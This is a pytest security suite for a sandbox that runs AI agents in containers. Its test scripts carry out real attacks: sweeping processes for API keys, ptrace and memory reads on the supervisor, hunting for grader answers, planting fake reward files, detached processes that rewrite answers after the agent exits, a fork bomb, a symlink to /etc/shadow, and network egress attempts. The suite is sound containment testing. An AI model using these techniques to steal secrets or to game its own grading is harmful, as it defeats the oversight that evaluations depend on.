"""The docker backend's attack battery (docs/security.md).

Each test is a real attack run as the agent in a real trial container, through the real
CLI (the task's instruction.md is the attack script, run by ``--agent command --agent-cmd
"bash {instruction_file}"``) or through ``harness.trial.run_trial``. Every test plants a
unique canary and checks the side effect from OUTSIDE the trial: run-dir files, ``docker
inspect``, host cgroups and /proc, host listeners. What the agent writes into its workspace
is only the evidence copy of what it could reach, never a verdict we trust on its own.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import secrets
import signal
import tarfile
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from support.net import Listener, bridge_gateway

from harness.agents.builtin import CommandAgent
from harness.agents.kinds import AgentCommand, SandboxAgent
from harness.records import TrialStore

AGENT_UID = 65532
CGROUP_PIDS = Path("/sys/fs/cgroup/pids/docker")


def _procs_of_container(cid: str) -> list[int]:
    """Host pids in a container's pids cgroup (cgroup v1, cgroupfs driver)."""
    try:
        text = (CGROUP_PIDS / cid / "cgroup.procs").read_text()
    except OSError:
        return []
    return [int(line) for line in text.split() if line.strip()]


def _host_procs_with_uid_in(cids: set[str], uid: int) -> list[str]:
    """Live host processes of ``uid`` that belong to one of the containers ``cids``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cgroup = (entry / "cgroup").read_text()
            status = (entry / "status").read_text()
        except OSError:
            continue
        if not any(cid in cgroup for cid in cids):
            continue
        uid_line = next(line for line in status.splitlines() if line.startswith("Uid:"))
        state = next(line for line in status.splitlines() if line.startswith("State:"))
        if int(uid_line.split()[1]) == uid and "Z" not in state.split()[1]:
            found.append(f"{entry.name}: {status.splitlines()[0]}")
    return found


def _json(path: Path) -> Any:
    assert path.is_file(), f"the attack left no {path.name} (did it run?)"
    return json.loads(path.read_text())


# ===================================================================== credentials


@pytest.mark.docker
def test_env_and_proc_environ_sweep_finds_no_real_key(
    client: Any, cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack env-sweep: read env, /proc/*/environ and /proc/*/cmdline of every visible pid.

    A real provider key (OPENAI_API_KEY canary) is in the harness process's environment;
    the CLI must keep it in memory on the host. The agent dumps everything it can read into
    the workspace; from outside, the canary is in no run-dir file, in no ``docker inspect``
    and in no environ/cmdline of any container process read from the HOST's /proc.
    """
    key = f"sk-canary-{secrets.token_hex(16)}"
    other = f"sk-ant-canary-{secrets.token_hex(16)}"
    plain = f"plain-canary-{secrets.token_hex(16)}"
    attack = r"""
set +e
python3 - <<'PY'
import json, os
report = {"self": os.getpid(), "readable": {}, "denied": {}}
dump = ["ENV " + json.dumps(dict(os.environ))]
for pid in sorted(os.listdir("/proc")):
    if not pid.isdigit():
        continue
    for name in ("environ", "cmdline"):
        path = "/proc/%s/%s" % (pid, name)
        try:
            with open(path, "rb") as fh:
                data = fh.read()
        except OSError as exc:
            report["denied"][path] = exc.errno
            continue
        report["readable"][path] = len(data)
        dump.append(path + " " + data.replace(b"\0", b"\n").decode("utf-8", "replace"))
with open("/app/sweep.txt", "w") as fh:
    fh.write("\n".join(dump))
with open("/app/sweep.json", "w") as fh:
    json.dump(report, fh)
PY
env > /app/env.txt
grep -rIhoa -e 'sk-[A-Za-z0-9_-]*' -e 'plain-canary-[0-9a-f]*' \
    /etc /opt /trial /tmp /var /run /app /logs /root /home 2>/dev/null > /app/grep.txt
sleep 2
echo done > /app/done.txt
"""
    name = sec.unique("envsweep")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack)
    leaks: list[str] = []
    sampled: set[int] = set()

    def sample(cid: str) -> None:
        # Host view of every process of the trial container: environ and cmdline.
        for pid in _procs_of_container(cid):
            sampled.add(pid)
            for part in ("environ", "cmdline"):
                try:
                    data = Path(f"/proc/{pid}/{part}").read_bytes()
                except OSError:
                    continue
                for canary in (key, other, plain):
                    if canary.encode() in data:
                        leaks.append(f"host /proc/{pid}/{part} holds a canary")

    with sec.Watcher(client, f"{sec.TASK_LABEL}={name}", sample) as watcher:
        run = cli.run(
            [task],
            env={"OPENAI_API_KEY": key, "ANTHROPIC_API_KEY": other, "MY_DATABASE_URL": plain},
        )
    assert run.code == 0, run
    record = run.by_task(name)
    ws = run.evidence(record) / "workspace"
    assert (ws / "done.txt").is_file(), f"the sweep did not finish: {run}"
    report = _json(ws / "sweep.json")
    # The sweep really read something: at least its own environ and every cmdline.
    assert f"/proc/{report['self']}/environ" in report["readable"], report
    assert any(p.endswith("/cmdline") for p in report["readable"]), report
    assert watcher.seen, "the watcher never saw the trial container"
    assert len(sampled) >= 3, f"the host never saw the agent's processes: {sampled}"
    assert not leaks, leaks
    for canary in (key, other, plain):
        assert not sec.files_containing(run.run_dir, canary), "canary leaked into the run dir"
        for inspected in watcher.seen.values():
            assert canary not in json.dumps(inspected), "canary in docker inspect"
    assert key not in run.stdout + run.stderr


@pytest.mark.docker
def test_supervisor_memory_environ_and_ptrace_are_denied(
    api: Any, sec: Any, tmp_path: Path, docker_runtime: str | None
) -> None:
    """Attack ancestor-memory: open /proc/<supervisor>/mem and environ, PTRACE_ATTACH it.

    The supervisor (root, non-dumpable) holds the trial's secret_env. The agent finds it by
    cmdline (/opt/harness/supervisor.py) and as the parent of the agent process, then tries
    every read vector on it and on every other non-agent pid, saving whatever it gets.
    gVisor lets any user open another process's environ: there the supervisor's must hold
    nothing of the trial's (the secrets only ever travel on its stdin).
    """
    secret = f"gw-canary-{secrets.token_hex(16)}"
    attack = r"""
set +e
python3 - <<'PY'
import ctypes, errno, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

libc.process_vm_readv.restype = ctypes.c_ssize_t

def ppid_of(pid):
    with open("/proc/%d/stat" % pid) as fh:
        stat = fh.read()
    return int(stat[stat.rfind(")") + 2:].split()[1])

def err():
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))

me = os.getuid()
agent_parent = ppid_of(os.getppid())   # python -> bash (the agent) -> its parent
supervisors, others = [], []
for name in os.listdir("/proc"):
    if not name.isdigit():
        continue
    pid = int(name)
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as fh:
            cmd = fh.read()
        with open("/proc/%d/status" % pid) as fh:
            uid = int([l for l in fh if l.startswith("Uid:")][0].split()[1])
    except OSError:
        continue
    if b"/opt/harness/supervisor.py" in cmd:
        supervisors.append(pid)
    if uid != me:
        others.append(pid)
report = {"supervisors": supervisors, "agent_parent": agent_parent, "results": {}}
for pid in sorted(set(others) | set(supervisors) | {agent_parent}):
    res = {}
    for part in ("mem", "environ"):
        try:
            fd = os.open("/proc/%d/%s" % (pid, part), os.O_RDONLY)
        except OSError as exc:
            res[part] = errno.errorcode.get(exc.errno, str(exc.errno))
            continue
        res[part] = "OPENED"
        try:
            data = os.read(fd, 1 << 16)
            with open("/app/leak-%d-%s.bin" % (pid, part), "wb") as out:
                out.write(data)
        except OSError:
            pass
        os.close(fd)
    if libc.ptrace(16, pid, None, None) == 0:          # PTRACE_ATTACH
        res["ptrace"] = "ATTACHED"
        libc.ptrace(17, pid, None, None)                # PTRACE_DETACH
    else:
        res["ptrace"] = err()
    buf = ctypes.create_string_buffer(4096)
    local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 4096)
    remote = IoVec(0x400000, 4096)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    res["process_vm_readv"] = "READ" if n >= 0 else err()
    report["results"][str(pid)] = res
with open("/app/memattack.json", "w") as fh:
    json.dump(report, fh)
PY
"""
    name = sec.unique("ptrace")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack)
    record = api.trial(
        task, CommandAgent(sec.AGENT_CMD), secret_env={"MODEL_GATEWAY_TOKEN": secret}
    )
    evidence = api.run_dir / "trials" / record.id
    report = _json(evidence / "workspace" / "memattack.json")
    assert report["supervisors"], f"the supervisor was not found by cmdline: {report}"
    assert report["agent_parent"] in report["supervisors"], report
    environ_readable = docker_runtime == "runsc"
    for pid in report["supervisors"]:
        res = report["results"][str(pid)]
        assert res["mem"] in ("EACCES", "EPERM"), res
        allowed = ("EACCES", "EPERM", *(["OPENED"] if environ_readable else []))
        assert res["environ"] in allowed, res
        assert res["ptrace"] == "EPERM", res
        assert res["process_vm_readv"] in ("EPERM", "ESRCH"), res
    for pid, res in report["results"].items():
        assert res["mem"] != "OPENED" and "ATTACHED" not in res.values(), (pid, res)
        assert environ_readable or res["environ"] != "OPENED", (pid, res)
        assert res["process_vm_readv"] != "READ", (pid, res)
    for leak in (evidence / "workspace").glob("leak-*"):
        # gVisor: the supervisor's environ is the image's (PATH, HOME ...), never a secret.
        assert leak.name.endswith("-environ.bin") and environ_readable, f"{leak.name} was read"
        data = leak.read_bytes()
        assert secret.encode() not in data and b"HARNESS" not in data, data
    assert not sec.files_containing(api.run_dir, secret)


@pytest.mark.docker
def test_secret_env_reaches_agent_but_no_inspect_or_run_file(
    api: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack host-leak: the trial secret must not show in docker inspect or any run file.

    A secret goes in through ``TrialSettings.secret_env`` (the supervisor's stdin). The agent
    proves it received it by writing its sha256 (never the value), then sleeps while the test
    inspects the live container (and its execs) and sweeps host cmdlines. Afterwards every
    file under the run dir and the serialized record are searched.
    """
    secret = f"gw-canary-{secrets.token_hex(16)}"
    attack = r"""
printf %s "$MODEL_GATEWAY_TOKEN" | sha256sum | cut -d' ' -f1 > /app/token.sha256
echo started > /app/started.txt
sleep 3
"""
    name = sec.unique("inspect")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack)
    captured: dict[str, Any] = {"execs": [], "logs": b"", "cmdlines": []}

    def sample(cid: str) -> None:
        client = api.client
        info = client.api.inspect_container(cid)
        captured["inspect"] = info
        for exec_id in info.get("ExecIDs") or []:
            try:
                captured["execs"].append(client.api.exec_inspect(exec_id))
            except Exception:
                pass
        captured["logs"] = client.api.logs(cid)
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    data = (entry / "cmdline").read_bytes()
                except OSError:
                    continue
                if secret.encode() in data:
                    captured["cmdlines"].append(entry.name)

    with sec.Watcher(api.client, f"{sec.TASK_LABEL}={name}", sample, interval=0.3) as watcher:
        record = api.trial(
            task, CommandAgent(sec.AGENT_CMD), secret_env={"MODEL_GATEWAY_TOKEN": secret}
        )
    TrialStore(api.run_dir).append(record)  # the record as a run persists it
    assert record.status == "completed" and record.reward == 1, record.errors
    assert watcher.seen and "inspect" in captured, f"never inspected: {watcher.errors}"
    assert any(i["State"]["Running"] for i in watcher.seen.values())
    ws = api.run_dir / "trials" / record.id / "workspace"
    assert (ws / "token.sha256").read_text().strip() == hashlib.sha256(secret.encode()).hexdigest()
    blobs = {
        "inspect (first)": json.dumps(list(watcher.seen.values())),
        "inspect (during agent)": json.dumps(captured["inspect"]),
        "exec inspect": json.dumps(captured["execs"]),
        "container logs": captured["logs"].decode("utf-8", "replace"),
        "record": record.model_dump_json(),
    }
    # The supervisor is the container's own process: its command line is in the inspect
    # (and must be the supervisor's, proving that is where the secret went through).
    assert "supervisor.py" in json.dumps(captured["inspect"]["Config"]["Cmd"])
    for where, blob in blobs.items():
        assert secret not in blob, f"the secret is in the {where}"
    assert not captured["cmdlines"], f"the secret is in host argv: {captured['cmdlines']}"
    assert not sec.files_containing(api.run_dir, secret), "the secret is in a run-dir file"


# ===================================================================== grader secrecy


@pytest.mark.docker
def test_agent_cannot_read_tests_or_solution(cli: Any, sec: Any, tmp_path: Path) -> None:
    """Attack answer-hunt: ls/cat /tests and /solution, find test.sh, grep the whole fs.

    A canary sits in tests/ and solution/. The agent's search output is copied out as
    evidence; from outside, the canary is in none of it. Controls: the verifier does see
    tests/ at grading, and the oracle agent (only) gets /solution.
    """
    canary = f"GRADER-CANARY-{secrets.token_hex(16)}"
    attack = r"""
{
echo "== ls"; ls -la /tests /solution
echo "== cat"; cat /tests/test.sh /tests/answer_key.txt /solution/solve.sh /solution/answer.txt
echo "== find"
find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o \
    \( -name test.sh -o -name solve.sh -o -name answer_key.txt -o -name answer.txt \) -print
echo "== grep"
grep -rIaho 'GRADER-CANARY-[0-9a-f]*' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev
echo "== end"
} > /app/hunt.txt 2>&1
true
"""
    test_sh = (
        f"# answer: {canary}\n"
        'cat /tests/answer_key.txt > "$HARNESS_VERIFIER_DIR/verifier-saw.txt"\n'
        'echo 1 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
    )
    solve_sh = (
        f"#!/bin/bash\n# {canary}\n"
        "cat /solution/answer.txt > /app/oracle-saw.txt\n"
        "ls -la /tests > /app/oracle-tests.txt 2>&1\ntrue\n"
    )
    name = sec.unique("answers")
    task = sec.write_task(
        tmp_path / "tasks",
        name,
        attack=attack,
        test_sh=test_sh,
        tests_files={"answer_key.txt": canary + "\n"},
        solution_files={"solve.sh": solve_sh, "answer.txt": canary + "\n"},
        agent_timeout=90,  # a whole-fs grep under gVisor on a loaded machine is slow
    )
    run = cli.run([task], timeout=240)
    assert run.code == 0, run
    evidence = run.evidence(run.by_task(name))
    hunt = (evidence / "workspace" / "hunt.txt").read_text()
    assert "== end" in hunt, hunt[-2000:]
    for section in ("== ls", "== cat", "== find", "== grep"):
        assert section in hunt
    agent_side = [evidence / "workspace", evidence / "agent.log", evidence / "agent.stderr.log"]
    for top in agent_side:
        if top.is_dir():
            assert not sec.files_containing(top, canary), f"the agent found the canary: {top}"
        elif top.exists():
            assert canary.encode() not in top.read_bytes(), top
    # Control: the grader content WAS in the container at grading time.
    assert canary in (evidence / "verifier" / "verifier-saw.txt").read_text()

    oracle = cli.run([task], agent="oracle")
    assert oracle.code == 0, oracle
    oracle_ws = oracle.evidence(oracle.by_task(name)) / "workspace"
    assert canary in (oracle_ws / "oracle-saw.txt").read_text(), "the oracle gets /solution"
    assert "test.sh" not in (oracle_ws / "oracle-tests.txt").read_text(), "oracle saw tests"


@pytest.mark.docker
def test_preplanted_reward_files_do_not_count(cli: Any, sec: Any, tmp_path: Path) -> None:
    """Attack reward-preplant: reward.txt/reward.json=1 everywhere the agent can write.

    The agent tries /logs/verifier, /logs, the workspace, /tmp, $HOME and /tests; the
    task's test.sh writes 0. The record's reward must be 0 and the verifier dir hold only
    what test.sh wrote.
    """
    attack = r"""
for d in /logs/verifier /logs /app /app/logs/verifier /tmp /var/tmp /trial "$HOME" /tests; do
    mkdir -p "$d" 2>/dev/null
    echo 1 > "$d/reward.txt" 2>/dev/null && echo "wrote $d/reward.txt"
    echo '{"reward": 1}' > "$d/reward.json" 2>/dev/null && echo "wrote $d/reward.json"
done > /app/planted.txt
echo 'echo 1 > "$HARNESS_VERIFIER_DIR/reward.txt"' > /tests/test.sh 2>/dev/null \
    && echo "wrote /tests/test.sh" >> /app/planted.txt
true
"""
    name = sec.unique("preplant")
    task = sec.write_task(
        tmp_path / "tasks",
        name,
        attack=attack,
        test_sh='echo 0 > "$HARNESS_VERIFIER_DIR/reward.txt"\n',
    )
    run = cli.run([task])
    record = run.by_task(name)
    assert record["status"] == "completed", run
    planted = (run.evidence(record) / "workspace" / "planted.txt").read_text()
    assert "wrote /app/reward.json" in planted and "wrote /tmp/reward.txt" in planted, planted
    assert record["reward"] == 0, record
    assert record["rewards"] == {"reward": 0}, record
    verifier = run.evidence(record) / "verifier"
    assert not (verifier / "reward.json").exists(), "a planted reward.json reached grading"
    assert (verifier / "reward.txt").read_text().strip() == "0"


@pytest.mark.docker
def test_detached_tamperer_is_dead_before_grading(
    client: Any, cli: Any, sec: Any, tmp_path: Path
) -> None:
    """Attack lingering-tamperer: setsid, double-fork, nohup, non-dumpable orphans.

    The agent writes a wrong answer, leaves detached processes that wait for it to exit and
    then write the right answer and a reward of 1, and exits at once. test.sh sleeps 3 s,
    then grades the answer and records whether any agent-uid process exists. The record must show
    reward 0, a ``survivors`` event, and no agent process during grading.
    """
    # The tamperers wait for the agent's main process to be gone (not a fixed time, which a
    # loaded machine could outlast inside the agent phase), then tamper.
    attack = r"""
echo wrong > /app/answer.txt
main=$$
tamper="while kill -0 $main 2>/dev/null; do sleep 0.05; done; sleep 1;
        echo right > /app/answer.txt; echo 1 > /logs/verifier/reward.txt;
        echo '{\"reward\": 1}' > /logs/verifier/reward.json"
setsid bash -c "$tamper" </dev/null >/dev/null 2>&1 &
( ( bash -c "$tamper" </dev/null >/dev/null 2>&1 & ) & )
nohup bash -c "$tamper" </dev/null >/dev/null 2>&1 &
# Non-dumpable: /proc/<pid> becomes root-owned, so a sweep by uid alone would miss it.
MAIN=$main python3 - </dev/null >/dev/null 2>&1 <<'PY'
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
        while os.path.exists("/proc/%s" % os.environ["MAIN"]):
            time.sleep(0.05)
        time.sleep(1)
        with open("/app/answer.txt", "w") as fh:
            fh.write("right\n")
    os._exit(0)
PY
exit 0
"""
    test_sh = r"""
sleep 3
agents=0
for s in /proc/[0-9]*/status; do
    uid=$(awk '/^Uid:/ {print $2}' "$s" 2>/dev/null)
    state=$(awk '/^State:/ {print $2}' "$s" 2>/dev/null)
    if [ "$uid" = "65532" ] && [ "$state" != "Z" ]; then agents=$((agents + 1)); fi
done
ok=0; [ "$(cat /app/answer.txt)" = right ] && ok=1
none=0; [ "$agents" -eq 0 ] && none=1
echo "{\"reward\": $ok, \"no_agent_procs\": $none}" > "$HARNESS_VERIFIER_DIR/reward.json"
"""
    name = sec.unique("linger")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack, test_sh=test_sh)
    cids: set[str] = set()
    with sec.Watcher(client, f"{sec.TASK_LABEL}={name}", cids.add):
        run = cli.run([task])
    record = run.by_task(name)
    assert record["status"] == "completed", run
    assert record["rewards"] == {"reward": 0, "no_agent_procs": 1}, record
    assert record["reward"] == 0
    survivors = [e for e in record["events"] if e.get("type") == "survivors"]
    assert survivors and survivors[0]["phase"] == "agent", record["events"]
    assert len(survivors[0]["processes"]) >= 4, survivors
    assert (run.evidence(record) / "workspace" / "answer.txt").read_text().strip() == "wrong"
    assert cids and not _host_procs_with_uid_in(cids, AGENT_UID)


# ===================================================================== privilege


@pytest.mark.docker
def test_agent_posture_is_fully_dropped(cli: Any, sec: Any, tmp_path: Path) -> None:
    """Attack posture: /proc/self/status of the agent shows no privilege at all.

    Uid/Gid 65532 in all four fields, no supplementary groups, every capability set 0,
    NoNewPrivs 1, seccomp filtering; the record's ``posture`` says the same.
    """
    attack = "cat /proc/self/status > /app/status.txt\nid > /app/id.txt\n"
    name = sec.unique("posture")
    task = sec.write_task(tmp_path / "tasks", name, attack=attack)
    run = cli.run([task])
    assert run.code == 0, run
    record = run.by_task(name)
    status = {}
    for line in (run.evidence(record) / "workspace" / "status.txt").read_text().splitlines():
        key, _, value = line.partition(":")
        status[key] = value.split()
    assert status["Uid"] == [str(AGENT_UID)] * 4, status["Uid"]
    assert status["Gid"] == [str(AGENT_UID)] * 4, status["Gid"]
    assert status["Groups"] == [], status["Groups"]
    posture = record["posture"]
    for cap in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        if cap not in status:  # gVisor shows no CapAmb: the supervisor asked prctl instead
            assert cap == "CapAmb" and posture["caps"][cap] == "0 (by prctl)", posture
            continue
        assert int(status[cap][0], 16) == 0, (cap, status[cap])
    # gVisor's status has no NoNewPrivs line: the supervisor asked prctl (the record says).
    assert status.get("NoNewPrivs", ["1"]) == ["1"]
    assert status["Seccomp"] == ["2"], "no seccomp filter on the agent"
    assert posture["dropped"] is True
    assert posture["uid"] == [AGENT_UID] * 3 and posture["gid"] == [AGENT_UID] * 3
    assert posture["groups"] == [] and posture["no_new_privs"] == "1"
    assert posture["seccomp"] == "2", posture
    assert all(int(v.split()[0], 16) == 0 for v in posture["caps"].values()), posture["caps"]
    assert record["sandbox"]["uid"] == AGENT_UID


SUID_DOCKERFILE = """\
FROM harness/base:bookworm
RUN cp /usr/bin/id /usr/local/bin/suid-id \\
 && chown root:root /usr/local/bin/suid-id \\
 && chmod 4755 /usr/local/bin/suid-id
"""


@pytest.mark.docker
def test_setuid_zero_and_setuid_binary_grant_nothing(cli: Any, sec: Any, tmp_path: Path) -> None:
    """Attack regain-root / setuid binary: setuid(0) and friends, and a setuid-root ``id``.

    The task image (built from environment/Dockerfile FROM harness/base:bookworm) carries
    /usr/local/bin/suid-id, a setuid-root copy of id. It must print the agent's uid, and
    setuid/setresuid/setgid/setgroups/seteuid(0) must all fail with EPERM.
    """
    attack = r"""
set +e
/usr/local/bin/suid-id -u > /app/suid-u.txt 2>&1
/usr/local/bin/suid-id > /app/suid-full.txt 2>&1
python3 -c "import os; s = os.stat('/usr/local/bin/suid-id')
print('%o %d' % (s.st_mode & 0o7777, s.st_uid))" > /app/suid-stat.txt
python3 - <<'PY'
import errno, json, os
out = {}
tries = {
    "setuid": lambda: os.setuid(0),
    "seteuid": lambda: os.seteuid(0),
    "setresuid": lambda: os.setresuid(0, 0, 0),
    "setgid": lambda: os.setgid(0),
    "setgroups": lambda: os.setgroups([0]),
}
for name, call in tries.items():
    try:
        call()
        out[name] = "SUCCEEDED"
    except OSError as exc:
        out[name] = errno.errorcode.get(exc.errno, str(exc.errno))
out["euid"] = os.geteuid()
out["resuid"] = list(os.getresuid())
with open("/app/regain.json", "w") as fh:
    json.dump(out, fh)
PY
"""
    # A fixed name: the image tag is content-addressed, so repeated sessions reuse it.
    task = sec.write_task(tmp_path / "tasks", "sec-suid", attack=attack, dockerfile=SUID_DOCKERFILE)
    run = cli.run([task], timeout=180)
    assert run.code == 0, run
    record = run.by_task("sec-suid")
    assert str(record["sandbox"]["image"]).startswith("harness-task/sec-suid:"), record
    ws = run.evidence(record) / "workspace"
    assert (ws / "suid-stat.txt").read_text().split() == ["4755", "0"], "not setuid-root"
    assert (ws / "suid-u.txt").read_text().strip() == str(AGENT_UID)
    assert "euid=0" not in (ws / "suid-full.txt").read_text()
    regain = _json(ws / "regain.json")
    for call in ("setuid", "seteuid", "setresuid", "setgid", "setgroups"):
        assert regain[call] == "EPERM", regain
    assert regain["euid"] == AGENT_UID and regain["resuid"] == [AGENT_UID] * 3


# ===================================================================== evidence integrity


class _TamperAgent(SandboxAgent):
    """Writes no transcript: replaces session.jsonl with a symlink or FIFO instead."""

    name = "tamper"
    session_file = "session.jsonl"

    def __init__(self, script: str) -> None:
        self.script = script

    def command(self, task: Any, sandbox: Any) -> AgentCommand:
        return AgentCommand(["bash", "-c", self.script])


def _image_file(client: Any, image: str, path: str) -> bytes:
    """A file of an image, read on the host through a created (never started) container."""
    container = client.containers.create(image, command=["true"], labels={"org.harness.test": "1"})
    try:
        stream, _ = container.get_archive(path)
        with tarfile.open(fileobj=io.BytesIO(b"".join(stream))) as tar:
            member = tar.extractfile(tar.getmembers()[0])
            assert member is not None
            return member.read()
    finally:
        container.remove(force=True)


@pytest.mark.docker
def test_planted_session_symlink_or_fifo_is_tampering(api: Any, sec: Any, tmp_path: Path) -> None:
    """Attack planted-session-file: session.jsonl → /etc/shadow symlink, or a FIFO.

    The root supervisor must never follow the link nor block on the FIFO: each trial
    finishes quickly, records an evidence event (symlink / fifo) and a cleanup error, and no
    evidence file holds /etc/shadow. The same plants in the workspace are refused too.
    """
    shadow = _image_file(api.client, sec.BASE_IMAGE, "/etc/shadow")
    shadow_lines = [line for line in shadow.splitlines() if line.strip()]
    assert shadow_lines
    cases = {
        "symlink": "ln -s /etc/shadow /trial/session/session.jsonl\n"
        "ln -s /etc/shadow /app/shadow-link\n",
        "fifo": "mkfifo /trial/session/session.jsonl\nmkfifo /app/pipe\n",
    }
    for kind, script in cases.items():
        name = sec.unique(f"session-{kind}")
        task = sec.write_task(tmp_path / "tasks", name, attack="true\n")
        box: dict[str, Any] = {}

        def go(task: Path = task, script: str = script, box: dict[str, Any] = box) -> None:
            try:
                box["record"] = api.trial(task, _TamperAgent(script + "true\n"))
            except BaseException as exc:  # reported below
                box["error"] = exc

        started = time.monotonic()
        worker = threading.Thread(target=go, daemon=True)
        worker.start()
        worker.join(timeout=60)
        elapsed = time.monotonic() - started
        assert not worker.is_alive(), f"the {kind} trial hung for over 60 s"
        assert "error" not in box, box
        record = box["record"]
        assert elapsed < 60
        events = [e for e in record.events if e.get("type") == "evidence"]
        session_events = [e for e in events if e["path"].endswith("session.jsonl")]
        assert [e["kind"] for e in session_events] == [kind], record.events
        planted = "app/shadow-link" if kind == "symlink" else "app/pipe"
        assert {"kind": kind, "path": planted} in [
            {"kind": e["kind"], "path": e["path"]} for e in events
        ], events
        cleanup = [e for e in record.errors if e.phase == "cleanup:snapshot_session"]
        assert cleanup and cleanup[0].type == "SessionFileMissing", record.errors
        # Tampering with its own session file is the agent's doing: never retried.
        assert record.status == "agent_error" and not cleanup[0].retryable
        evidence = api.run_dir / "trials" / record.id
        assert not (evidence / "session.jsonl").exists()
        for line in shadow_lines:
            assert not sec.files_containing(api.run_dir, line), "shadow content was copied"


# ===================================================================== resources


# The bomb, then ``exec`` (no fork needed) so the agent lives until its timeout.
BOMB = ":(){ :|:& };:\nexec sleep 60\n"


@pytest.mark.docker
def test_fork_bomb_is_contained_and_neighbour_unaffected(
    client: Any, cli: Any, sec: Any, tmp_path: Path, docker_runtime: str | None
) -> None:
    """Attack fork-bomb: ``:(){ :|:& };:`` beside a normal trial, with -j 2.

    The bomb's container must hit its pids limit (read from the host's pids cgroup), be
    stopped at the agent timeout, leave no process behind; the concurrent normal trial
    completes with reward 1 and the harness finishes the run. Under gVisor the limit is hit
    by the sandbox's own host threads and gVisor stops the whole sandbox: the trial is an
    ``agent_error`` saying the container died in the agent phase.
    """
    bomb = sec.unique("bomb")
    calm = sec.unique("calm")
    tasks = tmp_path / "tasks"
    sec.write_task(tasks, bomb, attack=BOMB, agent_timeout=6)
    sec.write_task(
        tasks,
        calm,
        attack="echo 42 > /app/out.txt\n",
        test_sh='[ "$(cat /app/out.txt)" = 42 ] && r=1 || r=0\n'
        'echo $r > "$HARNESS_VERIFIER_DIR/reward.txt"\n',
    )
    samples: dict[str, dict[str, int]] = {}

    def sample(cid: str) -> None:
        group = CGROUP_PIDS / cid
        try:
            current = int((group / "pids.current").read_text())
            limit = (group / "pids.max").read_text().strip()
            events = (group / "pids.events").read_text().split()
        except OSError:
            return
        seen = samples.setdefault(cid, {"peak": 0, "limit": 0, "hit": 0})
        seen["peak"] = max(seen["peak"], current)
        seen["limit"] = int(limit) if limit.isdigit() else -1
        seen["hit"] = max(seen["hit"], int(events[1]) if len(events) > 1 else 0)

    with sec.Watcher(client, f"{sec.TASK_LABEL}={bomb}", sample, interval=0.2) as w:
        run = cli.run([tasks], jobs=2, timeout=120)
    assert run.code in (0, 1), run
    assert (run.run_dir / "summary.json").is_file(), "the harness did not finish the run"
    normal = run.by_task(calm)
    assert normal["status"] == "completed" and normal["reward"] == 1, normal
    bombed = run.by_task(bomb)
    assert bombed["status"] in ("agent_timeout", "agent_error"), bombed
    assert w.seen and samples, f"the bomb's pids cgroup was never sampled: {w.errors}"
    if docker_runtime == "runsc":
        assert bombed["status"] == "agent_error", bombed
        assert bombed["errors"][0]["type"] == "SandboxDied", bombed["errors"]
        assert not bombed["previous_attempts"], "an agent's own doing is not retried"
    for cid, seen in samples.items():
        assert seen["limit"] > 0, f"{cid[:12]}: no pids limit"
        assert seen["peak"] <= seen["limit"], seen
        # Under gVisor the sandbox may stop itself (its host threads) before the cgroup's
        # limit refuses a fork; under runc the bomb runs into the limit.
        assert seen["hit"] > 0 or docker_runtime == "runsc", f"the bomb never hit the limit: {seen}"
    assert not _host_procs_with_uid_in(set(w.seen), AGENT_UID), "bomb processes survive"


# ===================================================================== network


EGRESS_ATTACK = r"""
set +e
python3 - <<'PY'
import json, socket
token = "@TOKEN@"
out = {"token": token}
def tcp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(token.encode() + b"\n")
        return "CONNECTED"
    except OSError as exc:
        return "%s: %s" % (type(exc).__name__, exc)
    finally:
        s.close()
out["gateway"] = tcp("@GATEWAY@", @PORT@)
out["dns_tcp"] = tcp("1.1.1.1", 53)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(token.encode(), ("@GATEWAY@", @PORT@))
    out["udp"] = "SENT"
except OSError as exc:
    out["udp"] = str(exc)
with open("/proc/net/dev") as fh:
    out["interfaces"] = sorted(l.split(":")[0].strip() for l in fh.readlines()[2:])
with open("/app/egress.json", "w") as fh:
    json.dump(out, fh)
PY
getent hosts example.com > /app/getent.txt 2>&1; echo "rc=$?" >> /app/getent.txt
"""


@pytest.mark.docker
def test_no_egress_without_allow_internet(
    client: Any, cli: Any, sec: Any, tmp_path: Path, docker_runtime: str | None
) -> None:
    """Attack egress-matrix: reach a host listener, 1.1.1.1:53 and DNS with no internet.

    The host listens on 0.0.0.0 (TCP and UDP); the agent tries the docker bridge gateway,
    1.1.1.1:53 and ``getent hosts``. The listener must see nothing from the no-internet
    trial and the trial must have only ``lo``. Beside it, a task with allow_internet = true
    has ``eth0`` on the filtered network, and does not reach the host either (the egress
    filter: tests/security/test_egress_filter.py, which also shows what it does reach).
    """
    gateway = bridge_gateway(client)
    closed, control = sec.unique("egress-none"), sec.unique("egress-open")
    tokens = {closed: f"EGRESS-{secrets.token_hex(12)}", control: f"EGRESS-{secrets.token_hex(12)}"}
